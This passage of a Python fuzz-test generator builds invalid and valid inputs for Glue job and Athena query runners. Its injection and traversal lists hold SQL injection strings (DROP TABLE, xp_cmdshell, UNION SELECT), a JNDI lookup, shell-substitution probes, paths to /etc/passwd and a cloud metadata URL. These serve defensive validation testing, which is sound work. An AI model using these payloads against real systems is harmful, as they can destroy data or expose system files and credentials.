        lambda rng: _either(rng, athena_ok(AthenaResultEncryptionOption="SSE_KMS", AthenaResultKmsKey=["k"]), "AthenaResultKmsKey list"),
    ]

    # -- fields that do not belong ----------------------------------------------------------

    def renamed(obj: dict[str, Any], old: str, new: str) -> dict[str, Any]:
        return {(new if key == old else key): value for key, value in obj.items()}

    glue_names = ["GlueJobname", "gluejobname", "GLUEJOBNAME", "JobName", "glue_job_name", "GlueJobName ", " GlueJobName",
                  "GlueJobNam\u0435", "\uff27lueJobName", "GlueJob\u200bName"]
    athena_names = ["AthenaQuery", "QueryString", "athenaQueryString", "AthenaQueryString\u200b", "Athena_Query_String", "AthenaQueryStrinq"]
    glue_extra = [("MaxCapacity", 2), ("SecurityConfiguration", "sc"), ("JobRunId", "jr_1"), ("Comment", "nightly"), ("", "x"),
                  ("__proto__", {}), ("Arguments2", {"--seconds": "0"})]
    athena_extra = [("ClientRequestToken", "t"), ("ResultReuseConfiguration", {}), ("OutputLocation", results), ("AthenaDataBase", "default"),
                    ("QueryExecutionContext", {"Database": "default"}), ("constructor", "x")]
    unknown_glue: list[Maker] = [
        *[lambda rng, n=n: _either(rng, renamed(glue_rich(), "GlueJobName", n), f"GlueJobName spelt {n!r}".encode("ascii", "backslashreplace").decode()) for n in glue_names],
        *[lambda rng, k=k, v=v: _either(rng, {**glue_rich(), k: v}, f"extra field {k!r}") for k, v in glue_extra],
    ]
    unknown_athena: list[Maker] = [
        *[lambda rng, n=n: _either(rng, renamed(athena_ok(), "AthenaQueryString", n), f"AthenaQueryString spelt {n!r}".encode("ascii", "backslashreplace").decode()) for n in athena_names],
        *[lambda rng, k=k, v=v: _either(rng, {**athena_ok(), k: v}, f"extra field {k!r}") for k, v in athena_extra],
    ]

    cross_glue: list[Maker] = [
        lambda rng: _either(rng, {"AthenaQueryString": "SELECT 1"}, "an Athena input"),
        lambda rng: _either(rng, {**glue_rich(), "AthenaDatabase": "default"}, "AthenaDatabase"),
        lambda rng: _either(rng, {**glue_ok(), "ExecutionParameters": ["1"]}, "ExecutionParameters"),
        lambda rng: _either(rng, {**glue_ok(), "AthenaWorkGroup": "primary"}, "AthenaWorkGroup"),
        lambda rng: _either(rng, {"AthenaNamedQuery": named_query, "AthenaResultOutputLocation": results}, "an Athena named query input"),
    ]
    cross_athena: list[Maker] = [
        lambda rng: _either(rng, {"GlueJobName": glue_job}, "a Glue input"),
        lambda rng: _either(rng, {**athena_ok(), "Arguments": {"--seconds": "0"}}, "Arguments"),
        lambda rng: _either(rng, {**athena_ok(), "WorkerType": "G.1X"}, "WorkerType"),
        lambda rng: _either(rng, {**athena_ok(), "Timeout": 60}, "Timeout"),
        lambda rng: _either(rng, {**athena_ok(), "GlueJobName": glue_job}, "GlueJobName alongside"),
    ]

    # Both values wrong, so the answer does not depend on which one a parser keeps.
    duplicates_glue: list[Maker] = [
        lambda rng: ('{"GlueJobName": 7, "GlueJobName": ""}', "GlueJobName twice, both wrong"),
        lambda rng: (f'{{"GlueJobName": "{glue_job}", "Timeout": 0, "Timeout": -1}}', "Timeout twice, both wrong"),
        lambda rng: (f'{{"GlueJobName": "{glue_job}", "Arguments": {{"--seconds": 0, "--seconds": null}}}}', "argument twice, both wrong"),
        lambda rng: (f'{{"GlueJobName": "{glue_job}", "WorkerType": "G.3X", "WorkerType": "g.1x"}}', "WorkerType twice, both wrong"),
    ]
    duplicates_athena: list[Maker] = [
        lambda rng: (f'{{"AthenaQueryString": "", "AthenaQueryString": 1, "AthenaResultOutputLocation": "{results}"}}', "query string twice, both wrong"),
        lambda rng: ('{"AthenaQueryString": "SELECT 1", "AthenaResultOutputLocation": "http://x/", "AthenaResultOutputLocation": "/tmp/"}', "output location twice, both wrong"),
        lambda rng: (f'{{"AthenaQueryString": "SELECT ?", "AthenaResultOutputLocation": "{results}", "ExecutionParameters": [1], "ExecutionParameters": "1"}}', "parameters twice, both wrong"),
    ]

    def long_text(rng: random.Random, n: int) -> str:
        return "".join(rng.choice("abcxyz0189_-.\u00fc\u6f22") for _ in range(n))

    long_glue: list[Maker] = [
        lambda rng: (lambda n: _either(rng, {"GlueJobName": long_text(rng, n)}, f"GlueJobName of {n} characters"))(rng.randint(256, 8000)),
        lambda rng: (lambda n: _either(rng, {"GlueJobName": glue_job + "x" * (256 - len(glue_job))}, "GlueJobName of 256 characters"))(0),
        lambda rng: (lambda n: _either(rng, glue_ok(Arguments={long_text(rng, n): "0"}), f"argument key of {n} characters without --"))(rng.randint(1000, 8000)),
        lambda rng: (lambda n: _either(rng, glue_ok(WorkerType="G.1X" + "X" * n), f"WorkerType of {n + 4} characters"))(rng.randint(100, 8000)),
        lambda rng: (lambda n: _either(rng, {**glue_ok(), long_text(rng, n): "x"}, f"unknown field name of {n} characters"))(rng.randint(100, 8000)),
    ]
    long_athena: list[Maker] = [
        lambda rng: (lambda n: _either(rng, {"AthenaNamedQuery": long_text(rng, n), "AthenaResultOutputLocation": results}, f"AthenaNamedQuery of {n} characters"))(rng.randint(257, 8000)),
        lambda rng: (lambda n: _either(rng, athena_ok(AthenaDatabase=long_text(rng, n)), f"AthenaDatabase of {n} characters"))(rng.randint(256, 8000)),
        lambda rng: (lambda n: _either(rng, athena_ok(AthenaCatalog=long_text(rng, n)), f"AthenaCatalog of {n} characters"))(rng.randint(256, 8000)),
        lambda rng: (lambda n: _either(rng, athena_ok(AthenaWorkGroup="w" * n), f"AthenaWorkGroup of {n} characters"))(rng.randint(129, 8000)),
        lambda rng: (lambda n: _either(rng, athena_ok(AthenaResultOutputLocation=results + "p" * n), f"output location over 1024 by {n}"))(rng.randint(1025, 8000)),
        lambda rng: (lambda n: _either(rng, athena_ok(AthenaResultEncryptionOption="SSE_KMS", AthenaResultKmsKey="k" * n), f"AthenaResultKmsKey of {n} characters"))(rng.randint(2049, 9000)),
        lambda rng: (lambda n: _either(rng, athena_ok(AthenaResultEncryptionOption="SSE_" + "K" * n), f"encryption option of {n + 4} characters"))(rng.randint(100, 3000)),
    ]

    # -- names that reach the service and cannot exist ---------------------------------------

    unknown_jobs: list[Maker] = [
        lambda rng: _either(rng, {"GlueJobName": missing_job(rng)}, "missing job"),
        lambda rng: _either(rng, {"GlueJobName": missing_job(rng), "Arguments": {"--seconds": "0"}}, "missing job with arguments"),
        lambda rng: _either(rng, {"GlueJobName": f"{glue_job}-{_suffix(rng)}"}, "near miss of the real job"),
        lambda rng: _either(rng, {"GlueJobName": f"{_suffix(rng)}{glue_job}"}, "real job name with a prefix"),
        lambda rng: (lambda s: _either(rng, {"GlueJobName": (f"etl-fuzz-{s}-" + "x" * 255)[:255]}, "255-character name"))(_suffix(rng)),
        lambda rng: _either(rng, {"GlueJobName": f"Process Sales Data {_suffix(rng)}"}, "name with spaces"),
        lambda rng: _either(rng, {"GlueJobName": f"\u5904\u7406\u9500\u552e-{_suffix(rng)}"}, "non-ASCII name"),
        lambda rng: _either(rng, {"GlueJobName": f"\U0001F4C8-{_suffix(rng)}", "Timeout": 60}, "astral-plane name"),
    ]

    def named_input(rng: random.Random, name: str, description: str) -> Made:
        extra = rng.choice([{}, {"AthenaWorkGroup": "primary"}, {"AthenaDatabase": "default"}])
        what = description + (f" with {next(iter(extra))}" if extra else "")
        return _either(rng, {"AthenaNamedQuery": name, "AthenaResultOutputLocation": results, **extra}, what)

    unknown_named: list[Maker] = [
        lambda rng: named_input(rng, missing_query(rng), "missing named query"),
        lambda rng: named_input(rng, f"{named_query}-{_suffix(rng)}", "near miss of the real named query"),
        lambda rng: named_input(rng, f"{_suffix(rng)}{named_query}", "real named query with a prefix"),
        lambda rng: named_input(rng, named_query.upper() + _suffix(rng).upper() if named_query.upper() != named_query else f"x{_suffix(rng)}", "upper-cased near miss"),
        lambda rng: named_input(rng, (f"etl-fuzz-{_suffix(rng)}-" + "q" * 256)[:256], "256-character name"),
        lambda rng: named_input(rng, f"\u65e5\u6b21\u96c6\u8a08 {_suffix(rng)}", "non-ASCII name"),
    ]
    unknown_uuid: list[Maker] = [
        lambda rng: named_input(rng, _uuid(rng), "random UUID"),
        lambda rng: named_input(rng, _uuid(rng), "another random UUID"),
        lambda rng: named_input(rng, _uuid(rng).upper(), "upper-case random UUID"),
        lambda rng: named_input(rng, "{" + _uuid(rng) + "}", "braced random UUID"),
        lambda rng: named_input(rng, str(uuid.UUID(int=0)), "nil UUID"),
    ]

    injections = [  # (tag for the label, text)
        ("drop table", "'; DROP TABLE jobs; --"),
        ("double-quote or", "\" OR \"1\"=\"1"),
        ("quote or", "' OR '1'='1"),
        ("backtick delete", "`; DELETE FROM runs; #"),
        ("xp_cmdshell", "); EXEC xp_cmdshell('dir'); --"),
        ("union select", "' UNION SELECT * FROM information_schema.tables --"),
        ("jndi lookup", "${jndi:ldap://example.invalid/a}"),
        ("template and shell", "{{7*7}} $(id) `id`"),
    ]

    def injected(rng: random.Random, stem: str) -> tuple[str, str]:
        tag, text = rng.choice(injections)
        return rng.choice([f"{stem}{text} {_suffix(rng)}", f"{_suffix(rng)}{text}", f"{text}{_suffix(rng)}"]), tag

    def sql_job(rng: random.Random) -> Made:
        name, what = injected(rng, glue_job)
        return _either(rng, {"GlueJobName": name}, f"job name with {what}")

    def sql_named(rng: random.Random) -> Made:
        name, what = injected(rng, named_query)
        return _either(rng, {"AthenaNamedQuery": name, "AthenaResultOutputLocation": results}, f"named query with {what}")

    def sql_database(rng: random.Random) -> Made:
        database, what = injected(rng, "default")
        # Paired with a missing named query: the lookup fails before the database is used,
        # so the answer is the same whatever the engine makes of such a database name.
        return _either(rng, {"AthenaNamedQuery": missing_query(rng), "AthenaDatabase": database, "AthenaResultOutputLocation": results}, f"database with {what}")

    traversals = ["../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "/../../", "jobs/../../", "....//....//", "..%c0%af"]

    def traversal(rng: random.Random) -> str:
        text = rng.choice(traversals)
        return rng.choice([f"{text}{_suffix(rng)}", f"{_suffix(rng)}/{text}"])

    traversal_glue: list[Maker] = [lambda rng: _either(rng, {"GlueJobName": traversal(rng)}, "job name with a path traversal")]
    traversal_athena: list[Maker] = [lambda rng: named_input(rng, traversal(rng), "named query with a path traversal")]

    location_glue: list[Maker] = [
        lambda rng: _either(rng, glue_ok(Arguments={rng.choice(traversals): "0"}), "argument key that is a path"),
        lambda rng: _either(rng, glue_ok(WorkerType="../" + rng.choice(["G.1X", "Standard"])), "WorkerType with ../"),
        lambda rng: _either(rng, {**glue_ok(), "../GlueJobName": glue_job}, "field name with ../"),
    ]
    location_athena: list[Maker] = [
        *[lambda rng, v=v: _either(rng, athena_ok(AthenaResultOutputLocation=v), f"output location {v!r}")
          for v in ["../../results/", "file:///etc/passwd", "/etc/", "..\\..\\", "s3:\\\\" + bucket + "\\..\\", "http://169.254.169.254/latest/meta-data/"]],
    ]

    def unknown_workgroup(rng: random.Random) -> Made:
        group = rng.choice([f"etl-fuzz-missing-wg-{_suffix(rng)}", (f"etl-fuzz-{_suffix(rng)}-" + "w" * 128)[:128]])
        variant = rng.choice([
            ({"AthenaQueryString": "SELECT 1"}, "SELECT 1"),
            ({"AthenaQueryString": "SELECT ?", "ExecutionParameters": [str(rng.randint(0, 999))]}, "SELECT ? with a parameter"),
            ({"AthenaQueryString": f"SELECT {rng.randint(0, 10**6)} AS n", "AthenaDatabase": "default"}, "SELECT n with a database"),
        ])
        return _either(rng, {**variant[0], "AthenaResultOutputLocation": results, "AthenaWorkGroup": group}, f"missing {len(group)}-character work group, {variant[1]}")

    # -- valid controls -------------------------------------------------------------------------

    valid_glue: list[Maker] = [
        lambda rng: ({"GlueJobName": glue_job}, "job name only (object)"),
        lambda rng: (json.dumps({"GlueJobName": glue_job}), "job name only (text)"),
        lambda rng: (glue_rich(), "with --seconds 0 (object)"),
        lambda rng: (json.dumps(glue_rich()), "with --seconds 0 (text)"),
        lambda rng: (json.dumps(glue_rich(), indent=rng.choice([1, 2, 4])), "pretty-printed text"),
        lambda rng: ("\n  " + json.dumps(glue_rich()) + " \n", "text with surrounding whitespace"),
        lambda rng: ({"Arguments": {"--seconds": "0"}, "GlueJobName": glue_job}, "fields in the other order"),
        lambda rng: _either(rng, glue_ok(Arguments={"--seconds": "0"}, Timeout=rng.randint(120, 2880)), "with a generous Timeout"),
        lambda rng: _either(rng, glue_ok(Arguments={}), "with empty Arguments"),
    ]
    valid_athena: list[Maker] = [
        lambda rng: (athena_ok(), "SELECT 1 (object)"),
        lambda rng: (json.dumps(athena_ok()), "SELECT 1 (text)"),
        lambda rng: _either(rng, athena_ok(AthenaQueryString=f"SELECT {rng.randint(0, 10**6)} AS n"), "SELECT n"),
        lambda rng: _either(rng, athena_ok(AthenaDatabase="default"), "with the default database"),
        lambda rng: _either(rng, athena_ok(AthenaWorkGroup="primary"), "in the primary work group"),
        lambda rng: _either(rng, athena_ok(AthenaQueryString="SELECT ?", ExecutionParameters=[str(rng.randint(0, 10**6))]), "SELECT ? with a number"),
        lambda rng: _either(rng, athena_ok(AthenaQueryString="SELECT ? AS a, ? AS b", ExecutionParameters=[str(rng.randint(0, 99)), "'fuzz'"]), "two parameters"),
        lambda rng: ({"AthenaNamedQuery": named_query, "AthenaResultOutputLocation": results}, "named query by name (object)"),
        lambda rng: (json.dumps({"AthenaNamedQuery": named_query, "AthenaResultOutputLocation": results}), "named query by name (text)"),
        lambda rng: _either(rng, {"AthenaNamedQuery": named_query, "AthenaResultOutputLocation": results, "AthenaWorkGroup": "primary", "AthenaDatabase": "default"}, "named query with work group and database"),
    ]

    return [
        Category("malformed-json", INVALID, per_kind(malformed)),
        Category("non-standard-numbers", INVALID, {GLUE: [lambda rng: nonstandard(rng, GLUE), nonstandard_top], ATHENA: [lambda rng: nonstandard(rng, ATHENA), nonstandard_top]}),
        Category("empty-or-whitespace", INVALID, {GLUE: empty, ATHENA: empty}),
        Category("not-an-object-value", INVALID, {GLUE: not_object_value, ATHENA: not_object_value}),
        Category("not-an-object-text", INVALID, {GLUE: not_object_text, ATHENA: not_object_text}),
        Category("encoded-too-often", INVALID, {GLUE: triple, ATHENA: triple}),
        Category("deep-nesting-text", INVALID, {GLUE: deep_top, ATHENA: deep_top}),
        Category("deep-nesting-in-field", INVALID, {GLUE: [lambda rng: deep_field(rng, GLUE)], ATHENA: [lambda rng: deep_field(rng, ATHENA)]}),
        Category("huge-integers", INVALID, {GLUE: [lambda rng: huge_int(rng, GLUE)], ATHENA: [lambda rng: huge_int(rng, ATHENA)]}),
        Category("numeric-edge-cases", INVALID, {GLUE: numeric_glue, ATHENA: numeric_athena}),
        Category("broken-unicode-escapes", INVALID, {GLUE: bad_escape_glue, ATHENA: bad_escape_athena}),
        Category("lone-surrogate-values", INVALID, {GLUE: lone_value_glue, ATHENA: lone_value_athena}),
        # Since 43f1446 parsing refuses unpaired surrogates anywhere (no AWS API can carry
        # them), so these never reach Glue or Athena; before, they were unknown names.
        Category("lone-surrogate-names", INVALID, {GLUE: lone_name_glue, ATHENA: lone_name_athena}),
        Category("control-characters", INVALID, {GLUE: control_glue, ATHENA: control_athena}),
        Category("oversized-input", INVALID, {GLUE: oversized_glue, ATHENA: oversized_athena}),
        Category("glue-job-name-type", INVALID, {GLUE: job_name_types}),
        Category("glue-arguments-type", INVALID, {GLUE: arguments_types}),
        Category("glue-arguments-keys", INVALID, {GLUE: arguments_keys}),
        Category("glue-reserved-argument", INVALID, {GLUE: [reserved]}),
        Category("glue-worker-type", INVALID, {GLUE: worker_types}),
        Category("glue-number-of-workers", INVALID, {GLUE: workers}),
        Category("glue-timeout", INVALID, {GLUE: timeouts}),
        Category("athena-query-string-type", INVALID, {ATHENA: query_types}),
        Category("athena-query-xor-named-query", INVALID, {ATHENA: one_of}),
        Category("athena-named-query-type", INVALID, {ATHENA: named_types}),
        Category("athena-output-location", INVALID, {ATHENA: output_locations}),
        Category("athena-encryption", INVALID, {ATHENA: encryption}),
        Category("athena-execution-parameters", INVALID, {ATHENA: parameters}),
        Category("athena-context-field-types", INVALID, {ATHENA: context_fields}),
        Category("unknown-fields", INVALID, {GLUE: unknown_glue, ATHENA: unknown_athena}),
        Category("cross-runner-fields", INVALID, {GLUE: cross_glue, ATHENA: cross_athena}),
        Category("duplicate-keys", INVALID, {GLUE: duplicates_glue, ATHENA: duplicates_athena}),
        Category("very-long-strings", INVALID, {GLUE: long_glue, ATHENA: long_athena}),
        Category("path-traversal-fields", INVALID, {GLUE: location_glue, ATHENA: location_athena}),
        Category("unknown-glue-job", INVALID, {GLUE: unknown_jobs}, service=True),
        Category("unknown-named-query-name", INVALID, {ATHENA: unknown_named}, service=True),
        Category("unknown-named-query-uuid", INVALID, {ATHENA: unknown_uuid}, service=True),
        Category("sql-injection-job-names", INVALID, {GLUE: [sql_job]}, service=True),
        Category("sql-injection-named-query-names", INVALID, {ATHENA: [sql_named]}, service=True),
        Category("sql-injection-database-names", INVALID, {ATHENA: [sql_database]}, service=True),
        Category("path-traversal-names", INVALID, {GLUE: traversal_glue, ATHENA: traversal_athena}, service=True),
        Category("athena-unknown-workgroup", REFUSED, {ATHENA: [unknown_workgroup]}, service=True),
        Category("valid-glue", VALID, {GLUE: valid_glue}, service=True),
        Category("valid-athena", VALID, {ATHENA: valid_athena}, service=True),
    ]


def _short(value: Any) -> str:
    """A value in a label: short and ASCII."""
    text = json.dumps(value)
    return text if len(text) <= 24 else text[:21] + "..."
